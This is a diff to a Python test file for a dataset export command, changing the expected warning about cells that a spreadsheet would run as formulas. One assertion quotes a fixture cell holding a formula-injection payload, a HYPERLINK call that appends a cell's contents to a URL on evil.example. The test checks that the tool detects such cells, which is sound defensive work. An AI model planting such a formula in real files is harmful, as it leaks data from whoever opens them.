@@ -88,7 +88,7 @@ def test_the_shared_tasks_files_keep_a_formula_byte_for_byte(app, tmp_path):
 def test_the_command_names_each_formula_cell_of_the_shared_tasks_files(app, tmp_path):
     load_project("kpa2021", hostile_kpa_folder(tmp_path), "kpa", split="test", k=3)
     result = export(app, "kpa2021", tmp_path / "out", "kpa")
-    assert ("Note: 1 of this export's cells start with a character a spreadsheet runs as a formula"
+    assert ("Note: 1 cell of the shared task's own files starts with a character a spreadsheet runs as a formula"
             in result.output)
     assert '  arguments_test.csv, line 3, column argument: "=HYPERLINK(\\"http://evil.example/?d=\\"&B2&..."' \
         in result.output.splitlines()
